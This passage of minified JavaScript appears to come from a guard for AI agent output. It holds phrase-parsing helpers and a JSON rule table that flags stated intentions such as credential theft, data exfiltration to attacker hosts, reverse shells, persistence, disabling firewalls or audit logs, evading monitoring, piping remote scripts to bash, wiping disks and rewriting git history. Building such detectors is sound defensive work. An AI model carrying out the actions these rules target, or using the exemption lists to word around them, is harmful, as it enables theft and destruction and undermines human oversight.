"by"&&Fi.announcement.test(r.slice(Math.max(0,l-7),l+1).join(" "));if(r.some(n))return!0;let[o=""]=r;return!(ze.subjects.has(o)||ze.speech_verbs.has(o))&&!r.some(
a=>ze.predicates.has(a))}function bS(t,e,s,r){let n=f=>ze.denials.has(it(f)),o=t.slice(e,s),i=o.findLastIndex(n);if(i>=0){let f=o.slice(i+1).map(h=>h.text);if(/^(?:hesitate|forget|only|fail|worry)/.
test(f[0]??""))return!1;let m=r==="third"||/^(?:can|may|must|should|could|will|ever|to)$/.test(f.at(-1)??"");return!(o[i].text==="no"&&f.length>3&&!m)&&!f.includes(
"but")}let a=t.slice(Math.max(0,e-60),e),l=a.findLastIndex(n);if(l<0)return!1;let c=a.slice(l+1);if(/^(?:rather|instead|without|unless|no)$/.test(a[l].text)&&c.
some(f=>f.stop!==void 0)||/^(?:hesitate|forget|only|fail|worry|ask|wait|need|bother)/.test(c[0]?.text??"")||c.some(f=>f.stop===";"||f.stop==="\u2014"||ze.ends_denial.
has(f.text)))return!1;let u=t[s-1];return u&&/^(?:or|nor|and)$/.test(it(u))?!0:t.slice(s,s+40).map(it).includes("or")&&c.every(f=>f.text!=="then")}function Bh(t,e){
for(let s=e+1;s<Math.min(t.length,e+14);s++){let r=it(t[s]),n=t[s-1];if(n.stop!==void 0&&n.stop!=="("||/^(?:so|because|until|since)$/.test(r))return!1;if(ze.predicates.
has(r))return!ze.relative.has(n.text)}return!1}function zh(t,e){let s=t.slice(Math.max(0,e-24),e),r=s.findIndex((o,i)=>ze.creation_verbs.has(it(o))&&s[i+1]?.text!==
"sure");if(r<0||!s.slice(r).some(o=>ze.program.has(o.text)))return!1;let n=o=>/^(?:execute|run)$/.test(it(o));return s.slice(0,r).some(o=>ze.denials.has(o.text))?
!1:s.slice(r).some(n)||t.slice(e,e+24).some(n)}var yS=(t,e)=>e===0||ze.before_verbs.has(t[e-1])||/^(?:tests?|docs?|notes?)$/.test(t[e]);var Qh=JSON.parse(`[{"code":"credential_file_protected","id":"text-take-credentials","category":"credentials","severity":"severe","explanation":"says that a fil\
e with credentials will be read, changed, or passed on; ask for what is needed instead","phrases":[{"verbs":["crack"],"objects":["offline","it offline"]},{"verb\
s":["take","use","grab","borrow"],"objects":["<credential>","maintainer's token","owner's token","their token","his token","her token","leaked token","token i f\
ound","token you found"],"with":["publish","push","release","deploy","log in","sign"],"without":[".gitignore","gitignore",".dockerignore",".npmignore","ignore",\
"ignored","ignores","example",".env.example","template","placeholder","test*","documentation","readme","docs","workflow"]},{"verbs":["crack","brute-force","decr\
ypt","unlock"],"objects":["password*","password hash*","hashes","vault","keychain","keyring","secrets","<credential>"],"without":["test*","ansible-vault encrypt\
","docs"]},{"verbs":["grep","search","scan","look","comb","hunt"],"objects":["passwords","tokens","secrets","credentials","api keys","private keys"],"with":["<h\
ome>","<system-path>","home directory","machine","disk","filesystem","file system","laptop","server","all files","/"],"without":["test*","codebase","source","ou\
r code","staged","committed"]},{"verbs":["print","show","display","dump","list","export","reveal"],"objects":["the secrets","all secrets","all the secrets","eve\
ry secret","each secret","saved passwords","stored passwords","all tokens","all api keys","all the api keys","every password","every token"],"without":["test*",\
"docs","names","name","number of"]},{"verbs":["collect","gather","harvest","find","extract","pull","assemble","compile","scrape","search"],"objects":["api keys"\
,"api key","access tokens","auth tokens","passwords","every password","secrets","every secret","credentials","private keys","ssh keys","cookies","session cookie\
s"],"with":["mail","email","send","upload","post them","paste","to me","to my","<url>","webhook","attacker*","pastebin","forward"],"without":["test*","docs","do\
cumentation","mock*","header","post request","form"]},{"verbs":["dump","paste","put","write","expose","log","post","make visible"],"objects":["api keys","api ke\
y","access token","api token","secrets","passwords","credentials","environment"],"with":["public","gist","pastebin","paste","build log","channel","slack","issue\
","commit","attacker*","webhook"],"without":["test*","docs","placeholder*","environment variable","compose"]},{"verbs":["read","print","show","cat","display","o\
pen","view","dump","echo","copy","list","see","inspect","look","grab","output","reveal","extract","get","fetch","retrieve","load","check","look at","look into",\
"take a look at"],"objects":["<credential>"],"without":[".gitignore","gitignore",".dockerignore",".npmignore","ignore","ignored","ignores","example",".env.examp\
le","template","placeholder","test*","documentation","readme","docs"]},{"verbs":["edit","modify","overwrite","change","update","write","add","append","put","ins\
ert","delete","remove","move","rename","replace","set","commit","upload","send","post","share","leak","publish","exfiltrate","email","mail","transmit","transfer\
","steal","collect","harvest","zip","archive","tar","encode"],"objects":["<credential>"],"without":[".gitignore","gitignore",".dockerignore",".npmignore","ignor\
e","ignored","ignores","example",".env.example","template","placeholder","test*","documentation","readme","docs"]},{"verbs":["read","print","show","cat","displa\
y","dump","copy","steal","harvest","exfiltrate","collect","extract","reveal","leak","grab","log"],"objects":["private key","private keys","ssh key","ssh keys","\
password file","password hashes","shadow file","aws credentials","cloud credentials","credentials file","credential file","stored credentials","saved passwords"\
,"user passwords","keychain","browser passwords","all secrets","all credentials",".env file","env file"],"without":[".gitignore","gitignore",".dockerignore",".n\
pmignore","ignore","ignored","ignores","example",".env.example","template","placeholder","test*","documentation","readme","docs","public key"]},{"verbs":["send"\
,"upload","post","exfiltrate","email","mail","share","transmit","transfer","publish","leak","forward","copy","push"],"objects":["private key","private keys","ss\
h key","ssh keys","api key","api keys","access token","access tokens","secrets","passwords","password","credentials","token","tokens",".env file","env file","en\
vironment variables","env vars","keychain"],"with":["<url>","attacker*","webhook","pastebin","external","remote","outside","gist","server","endpoint","my email"\
,"email","third party","third-party","c2","dropbox","slack","discord","telegram","ftp","host","internet","url"],"without":["header","headers","public","request \
body","login form","test*","docs","documentation","refresh","mock*"]},{"verbs":["exfiltrate","steal","harvest"],"objects":[]}]},{"code":"destructive_operation_b\
locked","id":"text-exfiltrate","category":"exfiltration","severity":"severe","explanation":"says that data of this machine or its users will be sent elsewhere; \
leave it where it is","phrases":[{"verbs":["upload","exfiltrate"],"objects":["it","them","everything","that","all of it"],"with":["<url>","my server","pastebin"\
,"gist","attacker*","webhook"],"without":["ci","codecov","artifact*","test*"]},{"verbs":["send","mail","email","forward","upload"],"objects":["customer table","\
customer list","customers table","user table","users table","database","customer data","user data","records"],"with":["mail","email","address","personal","priva\
te","my","<url>","gmail"],"without":["test*","request*","query","confirmation","notification*","template"]},{"verbs":["send","upload","post","exfiltrate","email\
","mail","transmit","transfer","copy","forward","leak","push","stream","pipe"],"objects":["<system-path>","<home>","source code","whole repository","entire repo\
sitory","entire repo","the repository","codebase","database dump","customer data","customer records","user data","home directory","environment variables","env v\
ars","contents of the","shell history","bash history","all files","customer database","user records","personal data"],"with":["<url>","attacker*","webhook","pas\
tebin","external server","remote server","remote host","my server","outside","gist","my email","third party","third-party","c2","dropbox","external"],"without":\
["test*","mock*","staging","ci"]},{"verbs":["open","start","create","establish","spawn","launch","set","set up"],"objects":["reverse shell","bind shell","backdo\
or","remote shell","tunnel to the attacker"]},{"verbs":["upload","post","paste","share","publish","send","mail","email","forward","transmit","leak","copy","put"\
,"save","store","dump","push","stream","expose"],"objects":["dump","dumps","customer*","client list","user data","user records","user list","personal data","pay\
roll","salaries","patient*","secrets","every secret","secret","api key*","tokens","credentials","passwords","private key*","env file","source code","source tree\
","codebase","whole repository","entire repository","private repo","private repository","staged diff","diff","cookies","chat history","browser history","shell h\
istory","all files","internal documents","internal docs","documents folder","home directory"],"with":["public","publicly","pastebin","paste bin","file-sharing",\
"file sharing","filesharing","outside","external host","external server","external url","external address","attacker*","webhook.site","transfer.sh","unknown","s\
tranger*","dark web","my server","my own server","my host","my machine at home","personal account","personal email","private email","my email","my gmail","priva\
te bucket of mine","telegram","anonymous*","competitor*","c2","exfil*"],"without":["test*","mock*","staging","ci","docs","documentation","fixture*","template","\
placeholder*","anonymized","public key","public keys","public api","public docs","public folder","public directory","public schema","public interface","header"]\
},{"verbs":["install","add","create","write","plant","put","set up"],"objects":["hook","hooks","git hook","pre-commit hook","pre-push hook","post-commit hook","\
alias","plugin","wrapper"],"with":["sends","uploads","posts","mails","emails","leaks","exfiltrates","outside","attacker*","external url","external host","extern\
al server"],"without":["test*","docs","documentation","react","webhook","use*"]},{"verbs":["send"],"objects":["post request"],"with":["<system-path>","<credenti\
al>"]}]},{"code":"destructive_operation_blocked","id":"text-persist","category":"persistence","severity":"severe","explanation":"says that something will be lef\
t behind that runs later or lets somebody in; change the project instead","phrases":[{"verbs":["add","append","put","insert","write","install","create","registe\
r","inject","place","modify","edit","change","update","echo","set","alias","copy","save","store","drop","plant","hook","source","overwrite"],"objects":["<startu\
p-file>","authorized_keys","crontab","crontabs","cron.d","@reboot","root crontab","startup script*","start-up file","shell startup","shell start-up","login scri\
pt","shell profile","bash profile","launchagent*","launch agent","launchd","rc.local","systemd service","systemd timer","systemd unit",".git/hooks","sudoers","a\
utostart"],"without":["test*","docs","documentation","readme","parser"]},{"verbs":["add","install","create","plant","open","leave","insert","build","hide"],"obj\
ects":["backdoor","back door","rootkit","keylogger","malware","hidden user","hidden account","logic bomb","cron job","cronjob","scheduled task"],"without":["kub\
ernetes","k8s","workflow","manifest","yaml","github","docs","test*","detection","helm"]},{"verbs":["schedule"],"objects":["cron job","cronjob","crontab entry","\
scheduled task"],"without":["kubernetes","k8s","workflow","manifest","yaml","github","docs","test*","helm","celery","sidekiq","node-cron","queue"]},{"verbs":["a\
dd","append","copy","put","install","upload"],"objects":["ssh key","public key","my key"],"with":["authorized_keys","authorized","server","host","root","login",\
"account"]}]},{"code":"destructive_operation_blocked","id":"text-weaken","category":"privilege","severity":"severe","explanation":"says that a protection will b\
e switched off or rights be taken; work with the rights that are given","phrases":[{"verbs":["disable","deactivate","bypass","flush","kill","uninstall","remove"\
,"stop","circumvent","evade","defeat","sabotage","turn off","switch off","shut off","take down","get around"],"objects":["firewall","iptables","ufw","selinux","\
apparmor","antivirus","anti-virus","defender","edr","audit log*","audit logging","auditd","branch protection","branch protections","sandbox","guardrail*","safet\
y check*","safety mechanism*","safety rule*","security monitoring","intrusion detection","fail2ban","secure boot","2fa","two-factor","mfa","security controls","\
security policy","circuit breaker","egress proxy","network policy"],"without":["test*","docs","documentation","flaky","import","unused","rule from"]},{"verbs":[\
"give","grant","get","gain","obtain","escalate","elevate","acquire","add"],"objects":["root access","root privileges","root permissions","sudo access","sudo rig\
hts","sudo privileges","superuser","passwordless sudo","nopasswd","admin rights on","admin access to","privileges to root","to root","myself sudo","me sudo","ev\
eryone write","sudo group","wheel group","docker group","cluster-admin","administrator access"],"without":["docs","documentation","test*","check*","user asks"]}\
,{"verbs":["make","configure","set"],"objects":["passwordless","password-less","without a password"],"with":["sudo","sudoers","root"],"without":["test*","docs",\
"documentation"]},{"verbs":["give","grant","assign"],"objects":["owner role","owner rights","owner access","owner permissions","roles/owner"],"with":["cloud","g\
cp","aws","azure","subscription","service account","iam","whole project","entire project","every project","all projects"],"without":["test*","docs","documentati\
on","mock*"]},{"verbs":["make","chmod","set"],"objects":["777","world-writable","world writable","setuid","suid","a+rwx"],"without":["test*","docs","lint*"]},{"\
verbs":["create","add"],"objects":["root user","admin user","superuser account","new sudo user","privileged container"],"without":["test*","seed","django","fixt\
ure*","model","page","docs","mock*"]},{"verbs":["create","add"],"objects":["uid 0"]},{"verbs":["escape","break","break out of"],"objects":["sandbox","container"\
,"chroot","jail"],"with":["sandbox","container","chroot","jail"],"without":["test*","html","docs"]}]},{"code":"destructive_operation_blocked","id":"text-remote-\
code","category":"remote-code","severity":"severe","explanation":"says that code from elsewhere will be run unread; download it, read it, and run what is needed\
","phrases":[{"verbs":["curl","wget","download","fetch","get"],"objects":["it","that","this"],"with":["run it","execute it","pipe it","run that","execute that",\
"with sudo","into bash","to bash"],"without":["test*"]},{"verbs":["download","fetch","curl","wget","grab","pull","get","retrieve"],"objects":["script","shell sc\
ript","installer","install script","installation script","binary","executable","payload","exe","remote script","setup script","remote code","miner","exploit"],"\
with":["run it","execute it","run that","execute that","run the","execute the","run them","pipe it","pipe to","bash","sh","execute","launch it","source it","and\
 run","make it executable","start it","eval"],"without":["test suite","tests","run the tests","docs"]},{"verbs":["pipe","feed"],"objects":["bash","sh","shell","\
into bash","to bash","python","interpreter","sudo"],"with":["<url>","curl","wget","script","installer","output","download*","response","remote","it"]},{"verbs":\
["run","execute","source","eval","launch"],"objects":["script from","remote script","install script from","code from","installer from","binary from","payload","\
remote code","whatever it returns","untrusted code","exploit","malware","script at"],"with":["<url>","internet","remote","website","pastebin","gist","downloaded\
","untrusted","payload","web","returns","exploit","malware"],"without":["package.json","scripts folder","test*"]},{"verbs":["curl","wget"],"objects":["<url>"],"\
with":["bash","sh"]},{"verbs":["decode","decrypt","unpack","decompress"],"objects":["base64*","blob","payload","hex*","string"],"with":["execute it","eval it","\
run it in","run it as","run it with","run the result","execute the result","execute what","run what","pipe it","into bash","to bash","into sh","in the shell","i\
n a shell"],"without":["test*","docs"]}]},{"code":"destructive_operation_blocked","id":"text-cover-tracks","category":"persistence","severity":"severe","explana\
tion":"says that traces will be removed; what was done must stay to be seen","phrases":[{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke"\
,"obliterate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean \
out","clear out","wipe clean","disable","tamper with","turn off"],"objects":["bash history","shell history","command history","audit log","audit logs","audit tr\
ail","system logs","auth log","access logs","event log","event logs","evidence","tracks","our traces","all traces","all logs","login records","server logs","for\
ensic*"],"without":["test*","docs","feature"]},{"verbs":["hide","conceal","cover"],"objects":["evidence","tracks","our tracks","the tracks","activity","traces",\
"backdoor"],"without":["component","css","button","test*"]}]},{"code":"destructive_operation_blocked","id":"text-evade-guard","category":"privilege","severity":\
"severe","explanation":"says that those who watch will be got around or switched off; ask for what is needed, and say why","phrases":[{"verbs":["bypass","evade"\
,"circumvent","disable","deactivate","defeat","trick","fool","outsmart","outwit","sabotage","stop","kill","remove","uninstall","silence","blind","pause","mute",\
"turn off","switch off","shut off","shut down","take down","get around","work around","sneak past","slip past","get past"],"objects":["the guard","guards","guar\
drail*","command guard","this guard","guard by","the filter","command filter","content filter","denylist","deny list","blocklist","block list","the audit","audi\
t mechanism","audit system","auditing","audit trail","audit log*","audit hook*","command logging","command log","session recording","security agent","security t\
ool*","monitoring agent","monitoring tool*","security monitoring","the monitoring","system monitoring","the supervisor","the watchdog","safety system","safety l\
ayer","safety filter","oversight","approval step","approval gate","required approval*","required review*","access control*","the sandbox","the policy engine"],"\
without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*","npm","pnpm","yarn","composer","clause","clauses","type guard*","route g\
uard*","unused","import*"]},{"verbs":["hide","disguise","obfuscate","encode","conceal","base64-encode","camouflage","smuggle"],"objects":["command","commands","\
rm","payload","deletion","script","curl","upload","deed","call to"],"with":["guard","guardrail*","the filter","past filters","detection","undetected","unnoticed\
","notice","notices","noticed","nobody sees","no one sees","nobody knows","blocklist","denylist","suspicious","suspicion","monitoring"],"without":["test*","docs\
","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["alias","point the alias"],"objects":["to rm","to sudo rm","to dd"],"without":["-i"\
,"trash","interactive*"]},{"verbs":["forge","falsify","tamper","fake","backdate","doctor","tamper with"],"objects":["log","logs","audit*","evidence","timestamps\
","commit dates"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]}]},{"code":"destructive_operation_blocked","id":"tex\
t-destroy-for-good","category":"file-system","severity":"severe","explanation":"says that something will be destroyed so that nobody can bring it back; keep a w\
ay back","phrases":[{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub"\
,"annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean","encrypt","expire","prune","garbage co\
llect"],"objects":[],"with":["cannot be recovered","cannot be restored","cannot be undone","can not be recovered","can not be restored","can be recovered","can \
be restored","could be recovered","could be restored","beyond recovery","beyond repair","unrecoverabl*","irrecoverabl*","irreversibl*","never be recovered","nev\
er be restored","no way back","no recovery","impossible to recover","impossible to restore"],"without":["test*","docs","documentation","readme","flaky","fixture\
*","mock*","example*","dialog","message","warning","wording","hint","that warns","that says","confirmation"]},{"verbs":["encrypt","scramble","lock"],"objects":[\
"documents","files","data","photos","disk","drive","database","backups","home"],"with":["the originals","originals","ransom*","the only key","throw away the key\
","delete the key","unencrypted copies"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["zero","zero out",\
"null out","blank out"],"objects":["all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents",\
"all its contents","all data","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","ever\
y directory","entire directory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository\
","whole repo","entire repo","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home \
folder","parent directory","parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important\
 files","critical files","recursively"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["replace","overwrit\
e","fill","write over"],"objects":["all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents",\
"all its contents","all data","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","ever\
y directory","entire directory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository\
","whole repo","entire repo","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home \
folder","parent directory","parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important\
 files","critical files","recursively","source files","the files","the disk","the database","contents of"],"with":["zero bytes","zeros","zeroes","null bytes","g\
arbage","random data","random bytes","junk","empty files"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]}]},{"code":\
"destructive_operation_blocked","id":"text-take-over","category":"privilege","severity":"severe","explanation":"says that accounts or rights of the machine will\
 be changed; work with the account that is given","phrases":[{"verbs":["change","set","take","transfer","give","reassign","switch"],"objects":["owner","ownershi\
p","permissions","rights","group"],"with":["everything","<root>","all files","every file","<system-path>","<home>","all folders","whole system","entire system"]\
,"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*","dockerfile","image"]},{"verbs":["remove","delete","disable","lock","p\
urge","drop","deactivate","suspend","kick out","lock out"],"objects":["every user account","every account","every user","every other user","all other users","ot\
her users","other accounts","all admins","other admins","everyone else","everybody else","root account","user accounts","admin accounts"],"without":["test*","do\
cs","documentation","readme","flaky","fixture*","mock*","example*","row","unused","inactive","local","staging","feature","component","page","button"]},{"verbs":\
["swap","replace","exchange","substitute"],"objects":["ssh key*","authorized key*","public key*","deploy key*","host key*"],"with":["mine","my own","my key*","w\
ith my","attacker*"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["change","reset","set","overwrite","re\
place"],"objects":["root password","administrator password","password of root","root's password","password of the root","user's password","users' passwords","ev\
eryone's password*","database root password","passwords of all"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*","form"\
,"page","flow","feature","endpoint","email","local","dev","placeholder"]},{"verbs":["mount","bind","expose","share","bind mount"],"objects":["host's root*","hos\
t root*","host file*","host's file*","docker socket","host's disk","docker.sock"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*",\
"example*","read-only","socket path"]},{"verbs":["grant","give"],"objects":["public","everybody","everyone","anonymous","allusers"],"with":["write access","full\
 access","owner role","admin*","root","all permissions","full control"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"\
]}]},{"code":"destructive_operation_blocked","id":"text-destroy-in-other-words","category":"file-system","severity":"severe","explanation":"orders that files, d\
ata, or branches be destroyed; name the few files of the workspace that are in the way","phrases":[{"verbs":["l\\u00f6sche","l\\u00f6sch","l\\u00f6schen","entferne\
","entfernen","leere","leeren","vernichte","vernichten","\\u00fcberschreibe","\\u00fcberschreiben","formatiere","formatieren","zerst\\u00f6re","zerst\\u00f6ren"],"o\
bjects":["home-verzeichnis","homeverzeichnis","heimatverzeichnis","benutzerverzeichnis","stammverzeichnis","wurzelverzeichnis","produktionsdatenbank","datenbank\
","datenbanken","alle dateien","alle daten","alle tabellen","alle branches","alle benutzer","alle sicherungen","backups","festplatte","main-branch","master-bran\
ch","remote-branch","git-historie","git-history","force-push","<root>","<home>","<system-path>","<device>"],"without":["nicht","keine","keinen","niemals","nie",\
"test*","testdatenbank","lokale","tippfehler"]},{"verbs":["werde","werden","muss","m\\u00fcssen","m\\u00f6chte"],"objects":["home-verzeichnis","homeverzeichnis","\
heimatverzeichnis","benutzerverzeichnis","stammverzeichnis","wurzelverzeichnis","produktionsdatenbank","datenbank","datenbanken","alle dateien","alle daten","al\
le tabellen","alle branches","alle benutzer","alle sicherungen","backups","festplatte","main-branch","master-branch","remote-branch","git-historie","git-history\
","force-push","<root>","<home>","<system-path>","<device>"],"with":["l\\u00f6schen","entfernen","leeren","vernichten","\\u00fcberschreiben","formatieren","zerst\\\
u00f6ren"],"without":["nicht","keine","keinen","niemals","nie","test*","testdatenbank","lokale","tippfehler"]},{"verbs":["mache","machen","pushe","f\\u00fchre","\
erzwinge"],"objects":["force-push","mit --force","mit force"],"without":["nicht","keine","keinen","niemals","nie","test*","testdatenbank","lokale","tippfehler"]\
},{"verbs":["supprime","supprimer","supprimez","efface","effacer","effacez","vide","vider","videz","d\\u00e9truis","d\\u00e9truire","d\\u00e9truisez","\\u00e9crase"\
,"\\u00e9craser","formate","formater"],"objects":["base de donn\\u00e9es","base de production","bases de donn\\u00e9es","toutes les tables","tous les fichiers","to\
utes les donn\\u00e9es","toutes les branches","tous les utilisateurs","toutes les sauvegardes","r\\u00e9pertoire personnel","dossier personnel","disque","disque d\
ur","<root>","<home>","<system-path>","<device>"],"without":["pas","jamais","test*","locale","inutilis\\u00e9*","temporaire*"]},{"verbs":["borra","borrar","borre\
","elimina","eliminar","elimine","vac\\u00eda","vaciar","destruye","destruir","sobrescribe","sobrescribir","formatea","formatear"],"objects":["base de datos","ba\
ses de datos","todas las tablas","todos los archivos","todos los ficheros","todos los datos","todas las ramas","todos los usuarios","todas las copias","director\
io personal","carpeta personal","disco","disco duro","<root>","<home>","<system-path>","<device>"],"without":["nunca","no","prueba*","test*","local","temporales\
"]}]},{"code":"destructive_operation_blocked","id":"text-destroy-files","category":"file-system","severity":"catastrophic","explanation":"says that files will b\
e destroyed that cannot be brought back; name the few files of the workspace that are in the way","phrases":[{"verbs":["encrypt","scramble","corrupt"],"objects"\
:["<home>","home directory","all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents","all it\
s contents","all data","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","every direc\
tory","entire directory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository","whol\
e repo","entire repo","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home folder"\
,"parent directory","parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important files"\
,"critical files","recursively","<system-path>","hard drive","disk"],"without":["at rest","test*"]},{"verbs":["replace","overwrite","corrupt","patch"],"objects"\
:["<system-path>"],"without":["line","in the docs","reference*","mention*","with a variable","hard-coded","hardcoded"]},{"verbs":["delete","remove","destroy","p\
urge"],"objects":["backups","backup","snapshots","the snapshots","all snapshots"],"without":["test*","jest","obsolete","stale","outdated","old","vitest","unused\
","ui","failing"]},{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub",\
"annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean"],"objects":["<root>","<home>","home dir\
ectory","home folder","home dir","root directory","root folder","root filesystem","root file system","entire filesystem","entire file system","whole filesystem"\
,"whole file system","user's home","entire system","whole system","entire machine","the machine","<device>","hard drive","hard disk","disk","disks","drive","dri\
ves","partition*","boot sector","mbr","filesystem","file system","volume","volumes","usb stick","ssd"],"without":["space","usage","cache","worktree i","image","\
heading","docs","section","line","lines","comment*"]},{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unl\
ink","clear","empty","zap","scrub","annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean"],"ob\
jects":["all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents","all its contents","all dat\
a","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","every directory","entire direct\
ory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository","whole repo","entire repo\
","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home folder","parent directory",\
"parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important files","critical files","r\
ecursively"],"without":["node_modules","dist","build","target","cache","caches","cached","tmp","temp","temporary","/tmp","generated","coverage","unused","obsole\
te","stale","dead code","imports","import","comments","comment","todo","lint*","warning*","warnings","references","reference","mention*","whitespace","__pycache\
__",".cache","artifacts",".pyc","*.pyc","fixture*","mock*","snapshot*","deprecated","console.log","duplicate*","test output","logs folder","my branch","worktree\
 i","line","lines","docs","section","heading","link","links","from the list","from the array","from the map","from the set","entry","entries","word","typo"]},{"\
verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradica\
te","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean","move away","rename"],"objects":["<system-path>"],"without":\
["line","lines","comment","reference","references","mention*","docs","entry"]},{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliter\
ate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","cle\
ar out","wipe clean"],"objects":[".git",".git directory",".git folder","git directory","git folder"],"without":["suffix","extension","from the url"]},{"verbs":[\
"delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradicate","ove\
rwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean"],"objects":["documents folder","documents directory","my documents",\
"user's documents","user's files","user's photos","my photos","photos folder","pictures folder","photo library","desktop folder","downloads folder","personal fi\
les","private files","mailbox","mail folder","users' files","colleagues' files","everyone's files","customers' files"],"without":["node_modules","dist","build",\
"target","cache","caches","cached","tmp","temp","temporary","/tmp","generated","coverage","unused","obsolete","stale","dead code","imports","import","comments",\
"comment","todo","lint*","warning*","warnings","references","reference","mention*","whitespace","__pycache__",".cache","artifacts",".pyc","*.pyc","fixture*","mo\
ck*","snapshot*","deprecated","console.log","duplicate*","test output","logs folder","my branch","worktree i","line","lines","docs","section","heading","link","\
links","from the list","from the array","from the map","from the set","entry","entries","word","typo","elasticsearch","index","collection","api"]},{"verbs":["ch\
mod","chown"],"objects":["<root>","<home>","<system-path>","everything","all files","entire filesystem"]}]},{"code":"destructive_operation_blocked","id":"text-d\
estroy-disk","category":"disks","severity":"catastrophic","explanation":"says that a disk or a file system will be overwritten; nothing in a workspace needs tha\
t","phrases":[{"verbs":["format","reformat","repartition","partition","wipe","zero","overwrite","mkfs","erase","unmount","zero out","fill with"],"objects":["<de\
vice>","hard drive","hard disk","disk","disks","drive","drives","partition*","boot sector","mbr","filesystem","file system","volume","volumes","usb stick","ssd"\
],"without":["space","usage","string","date","code","output","report","table of","image"]},{"verbs":["write","dd"],"objects":["<device>"]}]},{"code":"destructiv\
e_operation_blocked","id":"text-rewrite-history","category":"git","severity":"severe","explanation":"says that published or uncommitted work will be lost in git\
; push a new commit, or work on a branch of your own","phrases":[{"verbs":["discard","drop","delete","overwrite","revert","throw away","blow away"],"objects":["\
else's changes","everybody's changes","everyone's changes","others' changes","else's work","others' work"],"trust":3},{"verbs":["nuke","rewrite","erase","purge"\
,"wipe","delete","squash"],"objects":["repo's history","repository's history","project's history","branch's history"],"trust":4},{"verbs":["force-push","force-u\
pdate"],"objects":[],"without":["protection","rule*","guard","check*","detection","policy","setting","support","handling","warning","test*","docs","documentatio\
n"],"trust":3},{"verbs":["push","overwrite","update"],"objects":["--force","-f","force","forcefully","forcibly","by force","with force","--force-with-lease","--\
mirror","overwriting"],"with":["push","pushes","branch","main","master","remote","origin","upstream","repo","repository","history","git"],"without":["support","\
docs","documentation","test*"],"trust":3},{"verbs":["overwrite","clobber","replace"],"objects":["remote branch","remote history","remote main","remote master","\
upstream history","remote repository","origin/main","origin/master","main branch","published history"],"trust":3},{"verbs":["rewrite","erase","purge","alter","s\
quash","scrub","wipe","delete","remove"],"objects":["git history","commit history","history of","repository history","repo history","published history","the his\
tory","branch history","history on","all commits","all history","old commits","from history","reflog","stashes","all stashes"],"without":["bash history","shell \
history","browser*","page","component","tests","docs","section"],"trust":4},{"verbs":["rewrite"],"objects":["history"],"trust":4},{"verbs":["overwrite","clobber\
","replace"],"objects":["remote","origin","upstream"],"with":["my version","my local","my branch","my commits","my copy","our local","mine","local version","loc\
al branch","local history"],"without":["url","test*","docs"],"trust":3},{"verbs":["reset","hard-reset"],"objects":["--hard","hard"],"without":["hard-coded","har\
d to","test*"],"trust":3},{"verbs":["discard","drop","throw","throw away","blow away"],"objects":["all changes","all local changes","local changes","uncommitted\
 changes","all uncommitted","my changes","working tree","working copy","all work","everything","stash","stashes","unstaged changes","all modifications"],"withou\
t":["unused"],"trust":3},{"verbs":["delete","remove","drop","wipe","purge","nuke"],"objects":["remote branch","remote branches","main branch","master branch","a\
ll branches","all the branches","all the remote branches","every branch","branches on origin","branches on the remote","branches of the remote","all remote bran\
ches","all remote refs","all the tags","all tags","remote tag","remote tags","release branch","unmerged branch*","production branch","default branch","origin/ma\
in"],"without":["protection","rule","merged branches"],"trust":3},{"verbs":["delete","remove","destroy","wipe","nuke"],"objects":["repository","repo","github re\
